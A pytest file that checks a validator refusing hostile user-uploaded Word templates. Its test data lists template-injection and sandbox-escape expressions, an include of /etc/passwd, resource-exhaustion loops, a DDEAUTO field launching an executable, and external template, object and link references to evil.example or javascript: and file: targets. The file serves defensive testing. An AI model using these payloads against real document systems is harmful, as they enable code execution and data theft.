"""A stranger's Word template: what is refused, with its place, and that nothing in it ever runs. # checks 69"""

import io

import pytest
from docx import Document

from tests.frozen_plans import HOSTILE, SIGN_OFF, draft, empty_plan, hostile_plan, long_plan, whole_plan
from tests.own_templates import NAMES, PLAN, good, in_table, standard, with_member, with_xml, written
from tests.test_documents import squeezed, word_text
from tracker.checks import Refused
from tracker.documents import TemplateFailed, render_docx
from tracker.documents.columns import own_table
from tracker.documents.contents import contents
from tracker.documents.own_word import language
from tracker.documents.own_word.checking import check_template
from tracker.documents.own_word.names import NAMES as ALL_NAMES
from tracker.documents.own_word.names import Rows, published
from tracker.documents.own_word.samples import samples
from tracker.documents.own_word.trial import problems
from tracker.documents.word_fill import fill

LAYOUT = {"columns": [{"name": "Recommendation", "title": "No."}, {"name": "Action", "title": "Action"}], "in_word": True}
SINCE = {"kind": "plan", "number": 1, "plan_sha256": "0" * 64, "changes": [
    {"about": "Action 4", "organisation": "A trust", "recommendations": ["1.1"], "field": "due date", "before": "2016-08-01", "after": ""}]}  # fmt: skip
ONE_LOOP = ["{%p for fact in facts %}", "{{ fact.name }}", "{%p endfor %}"]
# what the template says → (the place, words of the reason)
HOSTILE_TEMPLATES = {
    "an unknown name": (["Before", "{{ titel }}"], "paragraph 2", "Do you mean “title”?"),
    "an unknown name under a heading": (["{{ nothing_like_it }}"], "paragraph 1", "stand below on this page"),
    "an unknown field": (["{%p for fact in facts %}", "{{ fact.vlaue }}", "{%p endfor %}"], "paragraph 2", "Do you mean “value”?"),
    "a field of a text": (["{{ title.words }}"], "paragraph 1", "as that is a text"),
    "a whole list printed": (["{{ facts }}"], "paragraph 1", "prints a list"),
    "the class of a text": (["{{ title.__class__.__mro__ }}"], "paragraph 1", "__class__"),
    "the class by brackets": (["{{ title['__class__'] }}"], "paragraph 1", "__class__"),
    "the class by a filter": (["{{ title|attr('__class__') }}"], "paragraph 1", "“|attr”"),
    "no escaping": (["{{ title|safe }}"], "paragraph 1", "“|safe”"),
    "an endless loop": (["Before", "{%p for i in range(10**9) %}", "x", "{%p endfor %}"], "paragraph 2", "calls a function"),
    "a loop over text": (["{%p for c in title %}", "{{ c }}", "{%p endfor %}"], "paragraph 1", "no list of the plan"),
    "a loop over a made-up list": (["{%p for c in [1, 2] %}", "x", "{%p endfor %}"], "paragraph 1", "does more than"),
    "loops over loops": ([*ONE_LOOP[:2], "{%p for e in evidence %}", "x", "{%p endfor %}", "{%p endfor %}"], "paragraph 3", "in every round of another"),
    "a loop over itself": ([*ONE_LOOP[:2], *ONE_LOOP, "{%p endfor %}"], "paragraph 3", "in every round of another"),
    "a recursive loop": (["{%p for f in facts recursive %}", "{{ loop(facts) }}", "{%p endfor %}"], "paragraph 1", "no list of the plan"),
    "a huge number": (["{{ 'a' * 10**9 }}"], "paragraph 1", "does more than"),
    "a wide text": (["{{ title|center(1000000000) }}"], "paragraph 1", "“|center”"),
    "joined joins": (["{{ title|join(title)|join(title) }}"], "paragraph 1", "“|join”"),
    "an include": (["{% include '/etc/passwd' %}"], "paragraph 1", "includes another file"),
    "an import": (["{% import 'os' as os %}"], "paragraph 1", "imports another file"),
    "an extends": (["{% extends 'base' %}"], "paragraph 1", "extends another file"),
    "a macro": (["{% macro m() %}x{% endmacro %}"], "paragraph 1", "defines a macro"),
    "a call": (["{% call m() %}x{% endcall %}"], "paragraph 1", "calls a macro"),
    "a set": (["{% set x = 1 %}{{ title }}"], "paragraph 1", "sets a name"),
    "a function": (["{{ lipsum() }}"], "paragraph 1", "calls a function"),
    "a foreign tag": (["{% trans %}x{% endtrans %}"], "paragraph 1: “{% trans %}", "unknown tag 'trans'"),
    "a loop without its end": (["x", "{%p for fact in facts %}", "{{ fact.name }}"], "paragraph 2", "has no end. Write {% endfor %} where"),
    "an inner loop without its end": ([*PLAN[:-1], "{{ title }}"], "paragraph 1", "has no end. Write {% endfor %} where"),
    "a condition without its end": (["x", "{% if title %}x", *ONE_LOOP], "paragraph 2", "has no end. Write {% endif %} where"),
    "an end too much": (["x", *ONE_LOOP, "{%p endfor %}"], "paragraph 5", "ends what was not begun"),
    "crossed ends": (["{%p for fact in facts %}", "{%p if title %}", "{%p endfor %}", "{%p endif %}"], "paragraph 3", "ends what was not begun"),
    "a broken expression": (["Fine", "{{ title + }}"], "paragraph 2", "cannot be read"),
    "half a tag": (["{{ title"], "paragraph 1: “{{ title”", "only half a tag"),
    "a tag over two paragraphs": (["{{ title", "}}"], "paragraph 1", "only half a tag"),
    "a mail merge's tag": (["{{ title }}", "«Title»"], "paragraph 2: “«Title»”", "no tag of the tracker"),
    "another program's tag": (["{{ title }}", "Dear ${name}"], "paragraph 2", "Write it as {{ title }}"),
    "words beside a paragraph's tag": (["{%p if title %} swallowed", "x", "{%p endif %}"], "paragraph 1", "would swallow the words beside it"),
    "a row's tag outside of a table": (["{%tr for fact in facts %}", "x", "{%tr endfor %}"], "paragraph 1", "stands outside of one"),
    "a space too much": (["{% p if title %}", "x", "{% p endif %}"], "paragraph 1", "has a space before “p”"),
    "a dash": (["{%- if title %}x{% endif %}"], "paragraph 1", "has a dash"),
    "rich text": (["{{r title }}"], "paragraph 1", "begins with {{r"),
    "a tag for later": (["{{ title }} {_{ lipsum() }_}"], "", "filled in later"),
    "a number without end": (["{{ " + "9" * 5000 + " }}"], "paragraph 1", "too long to be read"),
    "a depth without end": (["{{ " + "(" * 3000 + "title" + ")" * 3000 + " }}"], "paragraph 1", "too deep"),
    "no tag at all": (["Nothing"], "", "There is no tag in it"),
}  # fmt: skip


def told(found: list[dict]) -> str:
    return "\n".join(f"{p['place']} | {p['tag']} {p['words']}" for p in found)


@pytest.mark.parametrize("name", HOSTILE_TEMPLATES)
def test_what_is_wrong_is_told_with_its_place(name):
    paragraphs, place, why = HOSTILE_TEMPLATES[name]
    found = problems(written(*paragraphs), samples())
    assert place in found[0]["place"] and why in told(found[:1]), told(found)


def test_places_in_tables_headers_and_under_headings():
    assert "table 1, row 2, cell 2 | {{ wrong }}" in told(problems(written(change=in_table("{{ title }}", "{{ wrong }}")), []))
    assert "a header, paragraph 1 | {{ wrong }}" in told(problems(written("{{ title }}", header="{{ wrong }}"), []))

    def under(document):
        document.add_heading("Summary", 1)
        document.add_paragraph("Wrong: {{ wrong }}")

    assert "paragraph 2, under “Summary”: “Wrong: {{ wrong }}” | {{ wrong }}" in told(problems(written(change=under), []))
    swallowed = problems(written(change=in_table("{%tr for fact in facts %}", "swallowed")), [])
    assert "row of the table of its own" in told(swallowed)
    assert "no colour" in told(problems(written(change=in_table("{% cellbg title %}x")), []))


@pytest.mark.parametrize("xml, why", [
    ('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO c:\\\\x.exe</w:instrText></w:r>', "works by itself"),
    ("<w:r><w:instrText>INCLUDETEXT \"https://evil.example\"</w:instrText></w:r>", "works by itself"),
    ("<w:r><w:instrText>HYPERLINK {{ title }}</w:instrText></w:r>", "works by itself"),
    ('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText>'
     '<w:instrText>E x</w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/></w:r>', "(“DDE x”)"),
    ('<w:fldSimple w:instr="MERGEFIELD Title"><w:r><w:t>x</w:t></w:r></w:fldSimple>', "works by itself"),
    ('<w:ins w:id="1" w:author="x"><w:r><w:t>new</w:t></w:r></w:ins>', "tracked changes"),
])  # fmt: skip
def test_what_would_travel_with_every_document_is_refused(xml, why):
    found = problems(written("{{ title }}", change=with_xml(xml)), [])
    assert found[0]["place"] == "the text" and why in found[0]["words"]


@pytest.mark.parametrize("kind, mode", [("attachedTemplate", "External"), ("image", "External"), ("oleObject", "External")])
def test_what_reaches_out_of_the_file_is_refused(kind, mode):
    link = f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="https://evil.example/x" TargetMode="{mode}"/></Relationships>'
    data = with_member(good(), "", b"", (b"</Relationships>", link.encode()), "word/_rels/document.xml.rels")
    assert kind in told(problems(data, [])) and "document.xml" in told(problems(data, []))


@pytest.mark.parametrize(("target", "is_good"), [
    ("https://ccg.example/plan", True), ("HTTP://ccg.example", True), ("mailto:plans@ccg.example", True), ("#Summary", True),
    ("file:///c:/plans/x.exe", False), ("//server/share/x.docx", False), ("javascript:alert(1)", False), ("ms-word:ofe|u|x", False), ("x.docx", False),
])  # fmt: skip
def test_a_link_leads_to_a_website_or_an_address_only(target, is_good):
    link = f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="{target}" TargetMode="External"/></Relationships>'
    related = with_member(good(), "", b"", (b"</Relationships>", link.encode()), "word/_rels/document.xml.rels")
    field = written("{{ title }}", change=with_xml(f'<w:r><w:instrText>HYPERLINK "{target}" \\h</w:instrText></w:r>'))
    for data in (related, field):
        assert ("leads neither to a website" in told(problems(data, []))) is not is_good
    inside = written("{{ title }}", change=with_xml('<w:r><w:instrText>HYPERLINK \\l "_Toc1"</w:instrText></w:r>'))
    assert "leads neither" not in told(problems(inside, []))


def test_a_tag_where_no_reader_sees_it_is_found_too():
    hidden = "<w:tblCaption w:val=\"{{ ''.__class__.__mro__ }}\"/>"

    def change(document):
        in_table("{{ title }}")(document)
        with_xml("<w:r><w:t>x</w:t></w:r>")(document)

    data = with_member(written("Fine", change=change), "", b"", (b"</w:tblPr>", f"{hidden}</w:tblPr>".encode()), "word/document.xml")
    assert "__class__" in told(problems(data, samples()))
    named = with_member(good(), "", b"", (b"<dc:title></dc:title>", b"<dc:title>{{ 7*7 }}</dc:title>"), "docProps/core.xml")
    assert problems(named, samples()) == [] and Document(io.BytesIO(render_docx(whole_plan(), None, named))).core_properties.title.startswith("Action plan")


def test_a_tag_in_a_box_that_word_fills_in_is_refused():
    box = ('<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="x"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>{{ title }}</w:t></w:r></w:p>'
           "</w:sdtContent></w:sdt><w:sectPr")  # fmt: skip
    assert "Word fills in by itself" in told(problems(with_member(good(), "", b"", (b"<w:sectPr", box.encode()), "word/document.xml"), []))


def test_what_would_damage_the_document_is_refused():
    across = written("{%p for fact in facts %}", change=in_table("{{ fact.name }} {% endfor %}"))
    assert "begins in one row or paragraph" in told(problems(across, samples()))

    def emptied(document):
        table = document.add_table(rows=3, cols=1)
        for row, words in zip(table.rows, ["{%tr for gap in gaps %}", "{{ gap.name }}", "{%tr endfor %}"]):
            row.cells[0].text = words

    assert "A table has no row left" in told(problems(written("Gaps", change=emptied), samples()))

    def bare_cell(document):
        cell = document.add_table(rows=1, cols=1).rows[0].cells[0]
        cell.text = "{%p if gaps %}"
        for words in ("x", "{%p endif %}"):
            cell.add_paragraph(words)

    assert "A cell has no paragraph left" in told(problems(written("Gaps", change=bare_cell), samples()))


def test_files_that_are_no_template():
    for data, filename, why in [(b"x", "a.docx", "something else"), (b"%PDF-1.7\n", "a.pdf", "."), (good(), "a.docm", "macros"), (good() * 200, "a.docx", "5 MB")]:
        with pytest.raises(Refused, match=why):
            check_template(data + bytes(6 * 2**20) * (why == "5 MB"), filename)
    with pytest.raises(Refused, match="macros"):
        check_template(with_member(good(), "word/vbaProject.bin", b"x"), "a.docx")
    assert "cannot be opened" in told(problems(b"PK", []))


@pytest.mark.parametrize("template", [good, standard])
def test_good_templates_are_taken_in_the_child(template):
    assert check_template(template(), "ours.docx", [[whole_plan(), SIGN_OFF]]) == []


def test_a_bomb_of_loops_ends_at_the_limits():
    deep = "{% for g in groups %}{% for b in g.blocks %}{% for r in b.rows %}" + "{% for m in legend %}" + "x" * 400_000 + "{% endfor %}" * 4
    found = check_template(written(deep, "{{ title }}"), "ours.docx", [[long_plan(), None]] * 30, seconds=3)
    assert "tried with an example" in told(found)


def test_the_published_names_are_those_that_a_plan_gives():
    plan = whole_plan() | {"since": SINCE, "layout": LAYOUT}
    said = contents(plan, SIGN_OFF) | {"own": own_table(plan)}

    def compare(given, names, at):
        if isinstance(names, Rows):
            assert isinstance(given, list), at
            for item in given:
                compare(item, names.holds, f"{at}[]")
        elif isinstance(names, dict):
            assert set(given) == set(names), at
            for key, value in given.items():
                compare(value, names[key], f"{at}.{key}")
        else:
            assert isinstance(given, (str, int)), at

    compare(said, ALL_NAMES, "")
    assert len(published()) > 10 and all(entry["means"] for group in published() for entry in group["names"])


def test_words_of_people_are_never_tags_in_a_template_of_ones_own():
    for text in HOSTILE:
        plan = hostile_plan(text)
        shown = squeezed(word_text(fill(io.BytesIO(good()), plan, SIGN_OFF)))
        assert "49" not in shown and squeezed(plan["actions"][0]["words"].replace("\ud800", "").replace("\x00", "").replace("\x0b", "").replace("\u202e", "")) in shown
    huge = hostile_plan("short")
    huge["actions"][0]["words"] = "{{7*7}} 😀 \u200f\ud800" * 7_000
    assert word_text(render_docx(huge, None, good())).count("{{7*7}} 😀") >= 7_000


def test_the_same_plan_and_template_give_the_same_bytes():
    for plan, sign_off in ((draft(whole_plan()), None), (empty_plan(), None)):
        assert render_docx(plan, sign_off, good()) == fill(io.BytesIO(good()), plan, sign_off)


def test_what_fails_while_it_is_filled_in_says_so():
    with pytest.raises(TemplateFailed, match="could not be filled in"):
        render_docx(whole_plan(), None, written("{{ totals[9].name }}"))


def test_what_may_be_said_is_allowed():
    fine = ["{{ title|upper }}", "{{ marks|join(', ') }}", "{{ totals[0].count }}", "{% if gaps and not since %}x{% elif title == 'a' %}y{% else %}z{% endif %}",
            "{% for f in facts if f.value %}{{ loop.index }} {{ f.name ~ '!' }}{% else %}none{% endfor %}", "{{ gap_reason or 'none' }}", "{# said #}",
            "{% for g in own.groups %}{% for t in own.titles %}{{ t }}{% endfor %}{% for r in g.rows %}{% for c in r %}{{ c.words }}{% endfor %}{% endfor %}{% endfor %}"]  # fmt: skip
    assert [language.problems(source) for source in fine] == [[]] * len(fine)
    assert problems(written(*NAMES, *PLAN), samples()) == []
